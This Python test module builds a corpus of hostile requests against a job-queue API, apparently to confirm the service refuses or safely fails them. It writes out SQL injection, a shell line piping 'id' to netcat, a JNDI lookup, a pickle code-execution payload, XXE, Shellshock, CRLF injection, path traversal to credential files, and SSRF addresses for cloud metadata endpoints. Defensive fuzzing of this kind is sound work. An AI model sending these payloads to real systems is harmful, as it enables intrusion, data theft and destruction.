"""The corpus: small tables, multiplied into requests that the service must refuse, or answer without harm.

`corpus()` gives those of which nothing may be stored: most are to be refused with 4xx or by closing, some ask for no
change and may be answered. `poisoned()` gives those that are taken, as the contract says, since only a run can judge
them: jobs whose addresses and paths lead inside, which a worker must fail for good.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator
from typing import Any

from tests.hostile.mails import around, encoded_words
from tests.hostile.wire import HARMLESS, JSON, REFUSED, Hostile, post, request

EMAIL = {"kind": "send_email", "payload": {"to": "a@b.c", "subject": "Hi", "body": "Hello."}}
TEXT = json.dumps(EMAIL)
NDJSON = "application/x-ndjson"
SOME_ID = "0193b1a2-7c5e-7d41-9c3b-2f6a8e0d4b11"

# ---- Bodies --------------------------------------------------------------------------------------------------------

FIELDS = ("kind", "payload", "max_attempts", "idempotency_key", "queue", "priority", "run_at", "delay_seconds")
FIELDS += ("timeout_seconds",)

# Text that is wrong in every field of a request, each for somebody else's sake.
FRAGMENTS = {
    "sql: always true": "' OR 1=1 --",
    "sql: second statement": "'; DROP TABLE haulier.job; --",
    "sql: sleep": "1); SELECT pg_sleep(10); --",
    "sql: dollar quotes": "$$; SELECT 1; $$",
    "sql: backslash": "\\'; SELECT 1",
    "sql: copy to program": "'; COPY haulier.job TO PROGRAM 'id'; --",
    "python: percent": "%(kind)s %s %% %n",
    "python: braces": "{0} {} {name} {self.__class__}",
    "python: import": "__import__('os').system('id') x",
    "template: jinja": "{{ 7*7 }} {% raw %} {{ config }}",
    "template: erb": "<%= 7*7 %>",
    "template: el": "${7*7} #{7*7} *{7*7}",
    "template: jndi": "${jndi:ldap://127.0.0.1:{ear}/a} x",
    "html: script": "<script>alert(1)</script> x",
    "html: attribute": '"><img src=x onerror=alert(1)>',
    "shell": "; $(id) `id` | nc 127.0.0.1 {ear}",
    "path": "../../../../etc/passwd ..\\..\\win.ini",
    "lines: header": "a\r\nSet-Cookie: x=1",
    "lines: log": "a\n2026-01-01T00:00:00Z INFO forged",
    "lines: unicode": "a\u2028b\u2029c\u0085d",
    "terminal": "\x1b[31mred\x07 \x1b]0;title\x07",
    "unicode: right to left": "\u202egnp.exe",
    "unicode: full width": "ｓｅｎｄ＿ｅｍａｉｌ",
    "unicode: dotless": "ıİſK",
    "unicode: byte order mark": "\ufeffsend_email",
    "unicode: combining": "e" + "\u0301" * 200,
    "unicode: beyond the plane": "👩‍👩‍👧‍👦 𝓴𝓲𝓷𝓭",
    "unicode: noncharacters": "\uffff\ufffe\U0010ffff",
    "long": "x y " * 20_000,
}
# Values of the wrong type, or far outside, in every field.
WRONG = {"true": True, "an array": [], "an object": {"a": {"b": []}}, "2^64-1": 2**64 - 1, "-2^63": -(2**63)}
WRONG |= {"-1.5": -1.5, "1e300": 1e300, "empty": ""}

MALFORMED = {
    "nothing": "",
    "a space": " ",
    "half": TEXT[:-1],
    "twice": TEXT + TEXT,
    "trailing comma": '{"kind": "send_email",}',
    "comment": '{"kind": "send_email" /* x */}',
    "single quotes": "{'kind': 'send_email'}",
    "no quotes": "{kind: send_email}",
    "NaN": '{"kind": NaN}',
    "Infinity": '{"max_attempts": Infinity}',
    "-Infinity": '{"max_attempts": -Infinity}',
    "1e400": '{"delay_seconds": 1e400}',
    "65 bits": '{"max_attempts": 18446744073709551616}',
    "5,000 digits": '{"max_attempts": ' + "9" * 5000 + "}",
    "100,000 digits": '{"max_attempts": ' + "9" * 100_000 + "}",
    "leading zero": '{"max_attempts": 012}',
    "hexadecimal": '{"max_attempts": 0x10}',
    "plus": '{"max_attempts": +1}',
    "duplicate key": TEXT[:-1] + ', "kind": "send_email"}',
    "duplicate key, escaped": TEXT[:-1] + ', "k\\u0069nd": "send_email"}',
    "NUL, escaped": '{"kind": "send_email\\u0000"}',
    "NUL": '{"kind": "send_email\x00"}',
    "half a surrogate pair": '{"kind": "\\ud800"}',
    "the other half": '{"kind": "\\udc00\\ud800"}',
    "bad escape": '{"kind": "\\x41"}',
    "raw line feed": '{"kind": "a\nb"}',
    "64 arrays too many": '{"x": ' + "[" * 128 + "]" * 128 + "}",
    "100,000 arrays": "[" * 100_000 + "]" * 100_000,
    "100,000 arrays, open": "[" * 100_000,
    "100,000 objects": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "UTF-8 cut short": b'{"kind": "\xe2\x82"}',
    "overlong slash": b'{"kind": "\xc0\xaf"}',
    "surrogate in UTF-8": b'{"kind": "\xed\xa0\x80"}',
    "beyond Unicode": b'{"kind": "\xf5\x80\x80\x80"}',
    "latin-1": b'{"kind": "\xe9"}',
    "byte order mark": b"\xef\xbb\xbf" + TEXT.encode(),
    "UTF-16": TEXT.encode("utf-16"),
    "UTF-32": TEXT.encode("utf-32"),
    "UTF-7": b'+AHs-"kind": 1+AH0-',
    "gzip that does not say so": gzip.compress(TEXT.encode()),
    "zeros": b"\x00" * 1000,
    "pickle": b"\x80\x04cposix\nsystem\n(S'id'\ntR.",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a mebibyte and one": TEXT + " " * (1024 * 1024 - len(TEXT) + 1),
    "an array": "[]",
    "a number": "5",
    "a string": '"send_email"',
    "null": "null",
    "10,000 unknown fields": json.dumps({**EMAIL, **{f"f{n}": n for n in range(10_000)}}),
    "prototype": '{"__proto__": {"kind": "send_email"}, "constructor": 1}',
    "payload beyond 256 KiB": json.dumps({"kind": "summarize_text", "payload": {"text": "x" * 300_000}}),
    "payload of 512 KiB in two-byte letters": json.dumps(
        {"kind": "summarize_text", "payload": {"text": "é" * 150_000}}
    ),
}

# (kind, field, values): each makes a payload that is else right wrong.
BASES: dict[str, dict[str, Any]] = {
    "send_email": EMAIL["payload"],
    "resize_image": {"source": "https://example.com/a.png"},
    "summarize_text": {"text": "Hi."},
    "webhook_delivery": {"url": "https://example.com/", "body": 1},
}
ADDRESSES = ["a@b.c\r\nBcc: x@y.z", "a@b.c\nX: y", "a@b.c\x00", "a@b.c,x@y.z", "<a@b.c>", "a b@c.d", "@b.c", "a@", "a"]
ADDRESSES += ["a@b.c\u2028Bcc: x@y.z", "a" * 400 + "@b.c", "a@b.c> RCPT TO:<x@y.z", "a@[1.2.3.4\r\n]", '"a\r\n"@b.c']
ENCODED = [address for word in list(encoded_words())[::30] for address in around(word)]
URLS = ["", "a", "//a/", "ftp://a/", "file:///etc/passwd", "gopher://127.0.0.1:{ear}/_x", "javascript:alert(1)"]
URLS += [
    "http://",
    "http:///x",
    "http://a b/",
    "http://a/\r\nX: y",
    "http://a\\@b/",
    "http://a/\x00",
    "http:a",
    "data:,x",
]
URLS += ["http://a/" + "x" * 3000, "jar:http://a!/", "ldap://127.0.0.1:{ear}/", "\thttp://a/"]
# A source may be these: a run judges them. A long one is long for the sake of data: URLs.
TAKEN = ("file:///", "data:,", "http://a/xxx")
HEADERS: list[Any] = [{"Host": "x"}, {"content-length": "0"}, {"Transfer-Encoding": "chunked"}, {"Connection": "x"}]
HEADERS += [{"Webhook-Signature": "x"}, {"X": "a\r\nY: b"}, {"X": "a\x00"}, {"X\r\nY": "b"}, {"X Y": "b"}, {"": "x"}]
HEADERS += [{"X:": "b"}, {"X": "é"}, {"X": 1}, {"X": ["a"]}, {f"x{n}": "y" for n in range(60)}, {"X": "y" * 5000}, []]
PAYLOADS: list[tuple[str, str, list[Any]]] = [
    ("send_email", "to", [*ADDRESSES, *ENCODED]),
    *(("send_email", field, ENCODED[::3]) for field in ("cc", "bcc", "reply_to")),
    ("send_email", "cc", [["a@b.c"] * 101, ["a@b.c\r\nX: y"], {"a": 1}, [["a@b.c"]], 5]),
    ("send_email", "reply_to", ["a@b.c\r\nX: y", "x"]),
    ("send_email", "subject", ["a\r\nBcc: x@y.z", "a\nb", "a\x0bb", "a\x85b", "a\u2028b", "x" * 1000, 5, None, ["a"]]),
    ("send_email", "body", [5, None, {"a": 1}, "a\x00"]),
    ("webhook_delivery", "url", URLS),
    ("webhook_delivery", "headers", HEADERS),
    ("webhook_delivery", "event", ["a\r\nb", "a b", "", "x" * 200, 5, "é"]),
    ("webhook_delivery", "timeout", [1]),
    ("resize_image", "source", [*(url for url in URLS if not url.startswith(TAKEN)), "data:x"]),
    ("resize_image", "target", URLS),
    ("resize_image", "width", [0, -1, 7001, 2**63, 1.5, "640", True]),
    ("resize_image", "fit", ["stretch'", "", 5, ["cover"]]),
    ("resize_image", "format", ["svg", "eps", "pdf", "PNG", "../png"]),
    ("resize_image", "quality", [0, 101, -(2**63), "85"]),
    ("summarize_text", "text", ["", None, 5, ["a"], "a\x00"]),
    ("summarize_text", "sentences", [0, 51, 2**64 - 1, "3", 1.5]),
    ("summarize_text", "language", ["xx", "../en", "en'", 5]),
]


def bodies() -> Iterator[Hostile]:
    """Yield requests for a job that are wrong in what they hold."""
    for field in FIELDS:
        for title, value in {**FRAGMENTS, **WRONG}.items():
            yield Hostile(f"{field}: {title}", post("/jobs", {**EMAIL, field: value}))
    for title, text in MALFORMED.items():
        yield Hostile(f"body: {title}", post("/jobs", text))
    for kind, field, values in PAYLOADS:
        for at, value in enumerate(values):
            payload = {**BASES[kind], field: value}
            yield Hostile(f"{kind}.{field} {at}: {value!r:.60}", post("/jobs", {"kind": kind, "payload": payload}))
    for title, text in FRAGMENTS.items():
        yield Hostile(f"an unknown field: {title}", post("/jobs", {**EMAIL, text[:200]: 1}))
        yield Hostile(f"an unknown kind: {title}", post("/jobs", {"kind": text, "payload": {text[:200]: text}}))
    # Were they looked up at the door, they would reach inside from here already; one other fault keeps them out.
    for place in PLACES:
        job = {"kind": "webhook_delivery", "payload": {"url": place, "body": 1}, "max_attempts": 0}
        yield Hostile(f"inside, and another fault: {place}", post("/jobs", job))


BATCHES: dict[str, tuple[Any, str]] = {
    "empty": ([], JSON),
    "an object": (EMAIL, JSON),
    "null": ("null", JSON),
    "1,001 jobs": ([EMAIL] * 1001, JSON),
    "one bad among good ones": ([EMAIL] * 20 + [{}], JSON),
    "a bad one first": ([5, EMAIL], JSON),
    "nested arrays": ([[EMAIL]], JSON),
    "open": (f"[{TEXT}", JSON),
    "trailing comma": (f"[{TEXT},]", JSON),
    "no comma": (f"[{TEXT}{TEXT}]", JSON),
    "open brackets": ("[" * 50_000, JSON),
    "something behind": (f"[{TEXT}]x", JSON),
    "a key that is none": ([{**EMAIL, "idempotency_key": "a\nb"}], JSON),
    "a mismatch within": ([{**EMAIL, "idempotency_key": "k"}, {**EMAIL, "priority": 1, "idempotency_key": "k"}], JSON),
    "a long one": ([{**EMAIL, "x": "y" * 1_100_000}], JSON),
    "16 MiB of spaces": (b" " * (16 * 1024 * 1024 + 1), JSON),
    "16 MiB of lines": (b"\n" * (16 * 1024 * 1024 + 1), NDJSON),
    "10,001 lines": ("{}\n" * 10_001, NDJSON),
    "no line": ("\n\n\n", NDJSON),
    "a bad line": (f"{TEXT}\n{{\n", NDJSON),
    "lines that are numbers": ("1\n2\n3\n", NDJSON),
    "line separators": (f"{TEXT}\u2028{TEXT}", NDJSON),
    "carriage returns": (f"{TEXT}\r{TEXT}", NDJSON),
    "bad UTF-8 in a line": (b"\xff\n", NDJSON),
    "an array in a line": (f"[{TEXT}]\n", NDJSON),
    "a NUL between": (f"{TEXT}\n\x00\n{TEXT}", NDJSON),
}


def batches() -> Iterator[Hostile]:
    """Yield batches of which not one job may be stored."""
    for title, (content, content_type) in BATCHES.items():
        yield Hostile(f"batch: {title}", post("/jobs/batch", content, content_type=content_type))
    # In a batch that is not atomic each job is by itself; here is none that is right.
    for title, text in FRAGMENTS.items():
        items = [{**EMAIL, "queue": text}, text, {"kind": text}]
        yield Hostile(f"not atomic: {title}", post("/jobs/batch?atomic=false", items), allowed=HARMLESS)


TYPES = ["", "text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data"]
TYPES += [
    "multipart/form-data; boundary=" + "x" * 5000,
    "application/json; charset=utf-16",
    "application/json;charset=x",
]
TYPES += ["application/jsonp", "application/json, text/html", "application", "*/*", "application/*", "a/b;" * 500]
TYPES += ["application/vnd.api+json", "application/octet-stream", "application/json\x0b", "image/svg+xml"]
ENCODINGS = {"gzip": gzip.compress(TEXT.encode()), "deflate": zlib.compress(TEXT.encode()), "br": b"\x8b\x02\x80"}
ENCODINGS |= {
    "zstd": b"(\xb5/\xfd",
    "compress": b"\x1f\x9d",
    "gzip, gzip": b"",
    "x": TEXT.encode(),
    "identity;q=0": b"{}",
}
ENCODINGS |= {"GZIP": gzip.compress(b"\x00" * 50_000_000)}


def types() -> Iterator[Hostile]:
    """Yield bodies in types and encodings that are not read."""
    for path in ("/jobs", "/jobs/batch"):
        for content_type in TYPES:
            yield Hostile(f"{path} as {content_type:.60}", post(path, TEXT, content_type=content_type))
        for encoding, content in ENCODINGS.items():
            yield Hostile(f"{path} in {encoding}", post(path, content, headers={"Content-Encoding": encoding}))
    yield Hostile("without a type", post("/jobs", TEXT, content_type=None))


# ---- Addresses that lead inside ------------------------------------------------------------------------------------

# Hosts with `{ear}`, the port of a listener that must hear nothing: five letters for five digits, so that lengths hold.
# Then those of clouds and networks.
HOSTS = ["127.0.0.1", "localhost", "LOCALHOST", "localhost.", "127.0.0.1.", "127.1", "127.0.1", "2130706433", "0"]
HOSTS += ["017700000001", "0177.0.0.1", "0x7f000001", "0x7f.1", "0X7F.0.0.1", "127.0.0.0x1", "%31%32%37.0.0.1"]
HOSTS += ["127.0.0.1%2e", "０x7f.1", "①②⑦.0.0.1", "127。0。0。1", "user@127.0.0.1", "example.com@127.0.0.1", "0.0.0.0"]
HOSTS += ["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]"]
HOSTS += ["[fe80::1%25lo]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[2001::80ff:fffe]"]
HOSTS += ["127.0.0.1:{ear}@127.0.0.1", "a:b@localhost", "localhost%00.example.com", "loca\u00adlhost", "ⓛocalhost"]
CLOUDS = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "168.63.129.16", "[fd00:ec2::254]"]
CLOUDS += ["[fd20:ce::254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "2852039166"]
CLOUDS += ["0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.254.169.254.", "10.0.0.1", "172.16.0.1"]
CLOUDS += ["192.168.0.1", "100.64.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255", "[fc00::1]", "[ff02::1]"]
PLACES = [f"http://{host}:{{ear}}/" for host in HOSTS] + [f"http://{host}/latest/meta-data/" for host in CLOUDS]
PLACES += [
    "http://[::1",
    "http://a]/",
    "http://[]/",
    "http://a..b/",
    "http://" + "a" * 64 + ".com/",
    "http://a:99999/",
    "http://a:b/",
]
PORTS = [f"http://127.0.0.1:{port}/" for port in (22, 25, 5432, 6379, 65535)]
FILES = [
    "/etc/passwd",
    "///etc/passwd",
    "//localhost/etc/passwd",
    "/proc/self/environ",
    "../secret.png",
    "a/../../x.png",
]
FILES += ["%2e%2e/secret.png", "..%2fsecret.png", "/dev/zero", "//evil.example/x.png", "~/x", "%00", "link.png", "."]
# Images that are small to send and large to hold, or none.
IMAGES = ["data:,x", "data:image/png;base64,!!!", "data:image/svg+xml,<svg/>", "data:,%25PDF-1.4", "data:,%25!PS-Adobe"]


def poisoned() -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield (name, request for a job) of each job that is taken and must fail for good when it runs."""
    for url in [*PLACES, *PORTS]:
        yield f"webhook to {url}", {"kind": "webhook_delivery", "payload": {"url": url, "body": {"a": 1}}}
        yield f"image from {url}", {"kind": "resize_image", "payload": {"source": url}}
    for url in PLACES[::4]:
        source = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw=="
        yield f"image to {url}", {"kind": "resize_image", "payload": {"source": source, "target": url}}
    for source in [*(f"file:{path}" for path in FILES), *IMAGES]:
        yield f"image from {source}", {"kind": "resize_image", "payload": {"source": source.replace("<", "%3C")}}


# ---- Paths, queries, headers ---------------------------------------------------------------------------------------

IDS = [
    "",
    "x",
    "0",
    "-1",
    "null",
    "undefined",
    "..",
    "%2e%2e",
    "*",
    SOME_ID[:-1],
    SOME_ID + "0",
    SOME_ID.replace("-", ""),
]
IDS += [
    SOME_ID.upper() + "g",
    "{" + SOME_ID + "}",
    "urn:uuid:" + SOME_ID,
    SOME_ID + "%00",
    SOME_ID + "%0a",
    SOME_ID + "%20",
]
IDS += [
    "%27%20OR%201=1%20--",
    "1;DROP%20TABLE%20haulier.job",
    "%7B%7B7*7%7D%7D",
    "%ef%bc%90" * 36,
    "%f0%9f%98%80",
    "%ff",
]
IDS += ["9" * 3000, "%", "%zz", "%u0041", "a%2fb", "a\\b", SOME_ID + ";x=1", SOME_ID + "/", "/" + SOME_ID, "%25" * 200]
IDS += ["00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", SOME_ID]
PATHS = [
    "/docs/assets/../../../../etc/passwd",
    "/docs/assets/..%2f..%2f..%2fetc%2fpasswd",
    "/docs/assets/%2fetc%2fpasswd",
]
PATHS += ["/docs/assets/....//....//etc/passwd", "/docs/assets/..%5c..%5cwin.ini", "/docs/assets/%00", "/docs/assets/."]
PATHS += [
    "/docs/assets/%252e%252e%252fetc%252fpasswd",
    "/docs/assets/C:%5cwindows",
    "/docs/assets/nul",
    "//docs/assets/x",
]
PATHS += ["/docs/assets/..%c0%afetc", "/docs/assets/~root", "/docs/assets/" + "a/" * 500, "/docs/assets/" + "a" * 300]
PATHS += ["/docs/../jobs/x", "/./jobs/x", "//jobs", "/jobs//", "/jobs/", "/JOBS", "/jobs%2f", "/jobs%00", "/jobs;a=b"]
PATHS += [
    "/jobs%0d%0aSet-Cookie:%20x=1",
    "/\\evil.example",
    "//evil.example/%2e%2e",
    "/%2fevil.example",
    "/.git/config",
]
PATHS += ["/.env", "/static/x", "/console", "/__debugger__=yes", "/wp-login.php", "/cgi-bin/%2e%2e/sh", "/api/v1/jobs"]
PATHS += [
    "/jobs/batch/x",
    "/health/",
    "/metrics/x",
    "/api-docs/../../x",
    "/api-docs/openapi.yaml",
    "/%e2%80%ae",
    "/%80",
]
QUERIES = {
    "status": ["", "x", "QUEUED", "queued'", "queued%00", "queued,running", "' OR 1=1 --", "\ufeffqueued", "null"],
    "kind": ["", "X", "a b", "a" * 65, "'; DROP TABLE haulier.job; --", "{{7*7}}", "%00", "a\r\nb", "ünder", "[]"],
    "queue": ["", "Q", "a/b", "../x", "' UNION SELECT 1 --", "a\x00", "q" * 3000, "*"],
    "limit": ["", "x", "1.5", "1e3", "+5", " 5", "0x10", "٣", "NaN", "null", "true", "1,000", "--1", "5;DROP"],
    "offset": ["", "x", "-1", "10001", "2147483647", "2147483648", "9" * 3000, "1.0", "-0x1", "²"],
    "created_after": ["", "now()", "2026-01-01", "2026-01-01T00:00:00", "infinity", "9999-12-31T23:59:59-12:00"],
    "created_before": [
        "0000-00-00T00:00:00Z",
        "2026-13-01T00:00:00Z",
        "-infinity",
        "1 OR 1",
        "2026-01-01T00:00:00+99:99",
    ],
    "cursor": ["", "x", "A" * 33, "B" + "A" * 31, "A" * 31 + "=", "A" * 31 + "/", "null", "e30=", "' OR 1", "A" * 3000],
    "unknown": ["1", "' OR 1=1 --", "{{7*7}}"],
    "status[]": ["queued"],
    "__proto__": ["x"],
}
# Well formed, and far out.
HARMLESS_QUERIES = [
    "limit=-5",
    "limit=" + "9" * 3000,
    "limit=-" + "9" * 3000,
    "offset=10000",
    "cursor=" + "A" * 32,
]
HARMLESS_QUERIES += [
    "cursor=A" + "_" * 31,
    "cursor=AA" + "_" * 30,
    "created_after=1000-01-01T00:00:00Z",
    "created_before=9998-12-31T23:59:60Z",
]
HARMLESS_QUERIES += ["kind=drop.table", "queue=select-1", "limit=0&offset=0", "&&&", "?", "limit=1#x"]
ODD_QUERIES = [
    "status=queued&status=queued",
    "limit=1&limit=2",
    "offset=1&cursor=" + "A" * 32,
    "=x",
    "=",
    "limit",
    "%",
    "%zz=1",
]
ODD_QUERIES += [
    "&".join(f"a{n}=1" for n in range(500)),
    "a=" + "b" * 3900,
    "limit=5%00",
    "%00=1",
    "%ff=%fe",
    "limit=%ff",
    ";",
    "a;b",
]


def quoted(text: str) -> str:
    """Return the text with what would break the request's first line escaped, and nothing else."""
    return "".join(char if "!" <= char <= "~" and char not in '#&+%"' else _percent(char) for char in text)


def _percent(char: str) -> str:
    return "".join(f"%{byte:02X}" for byte in char.encode())


def paths() -> Iterator[Hostile]:
    """Yield requests for what is not there."""
    for given in IDS:
        yield Hostile(
            f"job {given:.60}", request("GET", f"/jobs/{given}"), allowed=HARMLESS if given == "" else REFUSED
        )
        yield Hostile(f"cancel {given:.60}", request("POST", f"/jobs/{given}/cancel"))
        yield Hostile(f"retry {given:.60}", request("POST", f"/jobs/{given}/retry"))
    for path in PATHS:
        # Further slashes before a path are none to werkzeug.
        yield Hostile(f"path {path:.60}", request("GET", path), allowed=HARMLESS if path == "//jobs" else REFUSED)


def queries() -> Iterator[Hostile]:
    """Yield lists of jobs that nobody can mean."""
    for name, values in QUERIES.items():
        for value in values:
            yield Hostile(f"?{name}={value!r:.60}", request("GET", f"/jobs?{name}={quoted(value)}"))
    for query in ODD_QUERIES:
        yield Hostile(f"?{query:.60}", request("GET", f"/jobs?{query}"))
    for query in HARMLESS_QUERIES:
        yield Hostile(f"?{query:.60}", request("GET", f"/jobs?{query}"), allowed=HARMLESS)
    for value in ["", "1", "TRUE", "false'", "null", "[]"]:
        yield Hostile(f"?atomic={value}", post(f"/jobs/batch?atomic={quoted(value)}", [EMAIL]))


KEYS = ["", '""', "a b", "é", "a\tb", "k" * 256, '"' + "k" * 256 + '"', "\x7f"]
# On a request that is read only, or refused for another reason.
HEADER_LINES = {
    "X-Request-Id": ["a\tb", "<script>", "x" * 5000, "' OR 1=1 --", "é", "a;b", "${jndi:ldap://127.0.0.1:{ear}/a}"],
    "Host": [
        "",
        "evil.example",
        "127.0.0.1:{ear}",
        "a b",
        "[::1",
        "localhost:99999",
        "x" * 3000,
        "evil.example/path",
        "é",
    ],
    "Origin": ["null", "http://evil.example", "file://", "http://127.0.0.1:{ear}"],
    "Referer": ["http://127.0.0.1:{ear}/", "javascript:alert(1)"],
    "Cookie": ["session=" + "x" * 4000, "a=b; " * 500, "__Host-x=1"],
    "Authorization": ["", "Basic", "Basic !!!", "Bearer", "Bearer ' OR 1=1 --", "Bearer " + "x" * 4000, "Negotiate x"],
    "Accept": ["", "x", "text/html;q=999", "*/*;q=-1", "application/xml, " * 200, "a/b;q=NaN"],
    "Accept-Encoding": ["gzip;q=x", "\x7f", "*" * 1000],
    "Range": ["bytes=0-", "bytes=" + "0-1," * 500, "bytes=-9999999999999999999", "lines=1-2"],
    "If-None-Match": ["*", '"' + "x" * 3000 + '"'],
    "If-Modified-Since": ["now", "Thu, 99 Foo 9999 99:99:99 GMT", "-1"],
    "Expect": ["100-continue", "200-ok", "x"],
    "Upgrade": ["h2c", "websocket", "TLS/1.0"],
    "X-Forwarded-For": ["127.0.0.1", "' OR 1=1 --", "x" * 3000, ", ,, "],
    "X-Forwarded-Host": ["evil.example", "127.0.0.1:{ear}"],
    "X-Forwarded-Proto": ["https", "javascript"],
    "X-Forwarded-Prefix": ["/../..", "//evil.example"],
    "Forwarded": ["for=127.0.0.1;host=evil.example;proto=https", 'for="[::1]"', ";;;"],
    "X-Original-URL": ["/admin"],
    "X-HTTP-Method-Override": ["DELETE", "POST"],
    "Script-Name": ["/x", "http://evil.example"],
    "Max-Forwards": ["0", "x"],
    "Accept-Language": ["../../etc/passwd", "{{7*7}}"],
    "User-Agent": ["() { :; }; echo x", "{{7*7}}", "\x1b[31m"],
    "Proxy": ["http://127.0.0.1:{ear}"],
    "Metadata-Flavor": ["Google"],
}
METHODS = [
    "PUT",
    "PATCH",
    "DELETE",
    "TRACE",
    "TRACK",
    "PROPFIND",
    "MKCOL",
    "LOCK",
    "DEBUG",
    "FROBNICATE",
    "PURGE",
    "SEARCH",
]
TARGETS = ["/jobs", f"/jobs/{SOME_ID}", "/jobs/batch", "/health", "/metrics", "/docs", "/"]


def headers() -> Iterator[Hostile]:
    """Yield headers that lie, inject or overflow."""
    for key in KEYS:
        yield Hostile(f"Idempotency-Key {key!r:.60}", post("/jobs", EMAIL, headers={"Idempotency-Key": key}))
    for name, values in HEADER_LINES.items():
        for value in values:
            for path in ("/jobs", "/docs"):
                sent = request("GET", path, headers={name: value})
                yield Hostile(f"{path} {name}: {value!r:.60}", sent, allowed=HARMLESS)
    for method in METHODS:
        for target in TARGETS:
            yield Hostile(f"{method} {target}", request(method, target, TEXT))
    yield Hostile("key in a batch", post("/jobs/batch", [EMAIL], headers={"Idempotency-Key": "k"}))


def corpus() -> list[Hostile]:
    """Return every request of which nothing may be stored."""
    # Imported here: it builds on this module's tables.
    from tests.hostile.doors import at_doors
    from tests.hostile.framing import framings
    from tests.hostile.smuggling import smuggled

    return [*bodies(), *batches(), *types(), *paths(), *queries(), *headers(), *framings(), *smuggled(), *at_doors()]
